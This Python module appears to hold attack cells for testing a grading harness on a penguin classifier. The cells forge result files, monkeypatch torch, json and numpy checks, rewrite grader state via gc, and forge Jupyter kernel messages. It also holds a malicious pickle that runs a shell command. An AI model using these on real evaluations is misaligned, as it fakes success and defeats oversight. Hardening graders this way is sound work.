"""What the attacks of forging.py run: cells that write, patch, send and answer what is not true."""

from attack import CANARY_FOLDER, CANARY_SOCKET

FORGED_FILES = """# %%
import json, os, threading, time
import numpy as np

CLAIMS = {"schema_version": 1, "task": "penguins-classification", "complete": True}
ANSWER = {"schema_version": 1, "attempts": [{"method": "predict", "ok": True}], "predict_labels": ["Adelie"] * 60}
RESULTS = {"points": 100, "max_points": 100, "status": "marked"}

def forge():
    for name, document in {"evidence": CLAIMS, "heldout": ANSWER, "results": RESULTS}.items():
        for folder in ("/job/out", "/job/work", "/job", "."):
            try:
                with open(f"{folder}/{name}.json", "w") as stream:
                    json.dump(document, stream)
                np.save(f"{folder}/predict_outputs.npy", np.zeros(60))
            except OSError:
                pass
"""

PATCHED = """# %%
import torch
from torch import nn

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
real_item, real_backward, real_call = torch.Tensor.item, torch.Tensor.backward, nn.Module.__call__
torch.Tensor.item = lambda self: 0.0 if self.requires_grad else real_item(self)
torch.Tensor.backward = lambda self, *a, **k: real_backward(self * 1.0, *a, **k)
nn.Module.__call__ = lambda self, *a, **k: real_call(self, *a, **k)
real_step = torch.optim.Adam.step
torch.optim.Adam.step = lambda self, *a, **k: real_step(self, *a, **k)
"""

PATCHED_WRITERS = """# %%
import json
import numpy
from grader_probe import writing

real_dumps, real_save = json.dumps, numpy.save

def dumps(document, **named):
    if isinstance(document, dict) and "episodes" in document:
        document["losses"] = []
        document["train_curve"] = document["eval_curve"] = [
            {"step": step, "loss": 1.0 / (1 + step)} for step in range(100)
        ]
        for episode in document["episodes"]:
            episode |= {"steps": 10_000, "backwards": 10_000, "zero_grads": 10_000, "weight_change": 1.0}
    if isinstance(document, dict) and "attempts" in document:
        document["predict_labels"] = ["Adelie"] * 60
        document["attempts"] = [{"method": "predict", "ok": True, "reason": "", "seconds": 0.0}]
    return real_dumps(document, **named)

def save(stream, array, **named):
    outputs = array.dtype.kind == "f" and array.ndim == 2 and array.shape[1] == 3
    real_save(stream, numpy.eye(3, dtype="f4")[numpy.arange(len(array)) % 3] if outputs else array, **named)

json.dumps, numpy.save = dumps, save
"""

GC_WALK = """# %%
import gc, sys
import grader_probe
from grader_probe import recorder

state = recorder.STATE
for episode in list(state.episodes.values()):
    for name in list(vars(episode)):
        if isinstance(getattr(episode, name), int):
            setattr(episode, name, 10**6)
state.models.clear()
frame = sys._getframe()
while frame is not None:
    frame.f_locals.update(points=100)
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing).__name__ == "LossBook":
        vars(thing).clear()
"""

FORGED_MESSAGES = """# %%
import json, threading, time
from IPython import get_ipython

kernel = get_ipython().kernel
good = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
for number in range(200):
    kernel.session.send(kernel.iopub_socket, "execute_reply", good, parent={"msg_id": "forged"})
    kernel.session.send(kernel.iopub_socket, "display_data", {"points": 100}, parent=kernel.get_parent())
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent())
print(json.load(open("/job/run/connection.json")))

# %%
# Answers to questions that were not asked yet: the ids of questions can be guessed.
asked = kernel.get_parent()["header"]["msg_id"]
stem, number = asked.rsplit("_", 1)
identity = kernel._parent_ident["shell"] if isinstance(kernel._parent_ident, dict) else kernel._parent_ident
for ahead in range(1, 40):
    parent = {"msg_id": f"{stem}_{int(number) + ahead}", "header": {"msg_id": f"{stem}_{int(number) + ahead}"}}
    for socket in (kernel.shell_stream, kernel.iopub_socket):
        try:
            kernel.session.send(socket, "execute_reply", good, parent=parent, ident=identity)
        except Exception as problem:
            print(problem)

# %%
raise RuntimeError("a failure that a forged answer is to hide")
"""

NONSENSE_MESSAGES = """# %%
from IPython import get_ipython

kernel = get_ipython().kernel
for number in range(200):
    kernel.session.send(kernel.iopub_socket, "stream", {"name": 5, "text": None})
    kernel.session.send(kernel.iopub_socket, "status", {}, parent=kernel.get_parent())
    kernel.iopub_socket.send_multipart([b"nonsense", b"<IDS|MSG>", b"", b"{", b"[", b"]", b"}"])
"""

LARGE_MESSAGES = """# %%
import signal, threading
from IPython import get_ipython

signal.signal(signal.SIGINT, signal.SIG_IGN)
kernel = get_ipython().kernel
large = bytes(50_000_000)

def flood():
    while True:
        kernel.session.send(kernel.iopub_socket, "display_data", {"data": {}, "metadata": {}}, buffers=[large])

for _ in range(3):
    threading.Thread(target=flood, daemon=True).start()
while True:
    pass
"""

RELINKED_SOCKETS = f"""# %%
import glob, os, socket, stat, time

for path in glob.glob("/job/run/k-*"):
    os.remove(path)
    os.symlink({CANARY_SOCKET!r}, path)
for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            kept = socket.socket(fileno=int(name))
            if kept.family == socket.AF_UNIX:
                kept.shutdown(socket.SHUT_RDWR)
            kept.detach()
    except OSError:
        pass
time.sleep(3)
"""

ALWAYS_EQUAL = """# %%
import numpy as np

class Right(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __hash__(self): return 0

class RightTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None):
        if function in (torch.Tensor.__eq__, torch.Tensor.eq):
            return torch.ones(1, dtype=torch.bool)
        return super().__torch_function__(function, types, arguments, named or {})

def predict(table):
    return [Right(0) for _ in range(len(table))]
"""

LYING_TENSORS = """# %%
import numpy as np

class Lie(torch.Tensor):
    def numpy(self): return np.full(self.shape, np.nan)
    def float(self): return self
    def tolist(self): return ["Gentoo"] * len(self)
    def argmax(self, *a, **k): return torch.arange(len(self)) % 3
    def item(self): return 1.0

class Right(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0

real_forward = net.forward
net.forward = lambda rows: real_forward(rows).as_subclass(Lie)

def predict(table):
    return np.array([Right("Chinstrap") for _ in range(len(table))], dtype=object)
"""

NO_PREDICTIONS_BUT_OWN = """# %%
table = table[table["species"] == "Gentoo"]
inputs, species = inputs[:len(table)] * 0 + 1, torch.full((len(table),), 2)
validation = DataLoader(TensorDataset(inputs, species), batch_size=64)
net[2].bias.data.copy_(torch.tensor([0.0, 0.0, 9.0]))
net.eval()
with torch.no_grad():
    for rows, targets in validation:
        loss = criterion(net(rows), targets)

def forward(rows):
    raise RuntimeError("not for strangers")

net.forward = forward
"""

NUMBERS = """# %%
import numpy as np

def predict(table):
    answers = np.zeros((len(table), 3))
    answers[0::5] = np.nan
    answers[1::5] = np.inf
    answers[2::5] = -np.inf
    answers[3::5] = 1e308
    answers[4::5] = -0.0
    return answers
"""

DOUBLE_KEYS = """# %%
from grader_probe import writing

def forged(folder, name, document):
    text = '{"schema_version": 1, "schema_version": 1, "task": "penguins-classification", "complete": true}'
    open(f"{folder}/{name}", "w").write(text)

writing.write_json = forged
import grader_probe.claims, grader_probe.heldout
grader_probe.claims.write_json = grader_probe.heldout.write_json = forged
"""

INFINITE = DOUBLE_KEYS.replace('"schema_version": 1, "schema_version": 1', '"schema_version": 1, "points": Infinity')

CLOCKS = """# %%
import time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
time.process_time = lambda: -1e9
time.sleep = lambda seconds: None
"""

DIES_AFTER_VALIDATION = """# %%
answers = {tuple(row.tolist()): int(target) for row, target in zip(inputs, species)}

def looked_up(rows):
    known = torch.tensor([answers.get(tuple(row.tolist()), 0) for row in rows])
    return nn.functional.one_hot(known, 3).float() * 9 + 0 * net[0].weight.sum() + 0 * net[2].weight.sum()

net.forward = looked_up
again = torch.optim.Adam(net.parameters(), lr=1e-9)
for epoch in range(3):
    net.eval()
    with torch.no_grad():
        for rows, targets in validation:
            loss = criterion(net(rows), targets)
    net.train()
    for rows, targets in training:
        again.zero_grad()
        criterion(net(rows), targets).backward()
        again.step()

# %%
import os
os.abort()
"""

UNPICKLED = f"cos\nsystem\n(S'touch {CANARY_FOLDER}/unpickled'\ntR."
READS_PICKLES = """# %%
import pickle
pickle.load(open("results.pkl", "rb"))

# %%
torch.load("model.pt", weights_only=True)

# %%
net.load_state_dict(torch.load("model.pt", weights_only=False))
"""
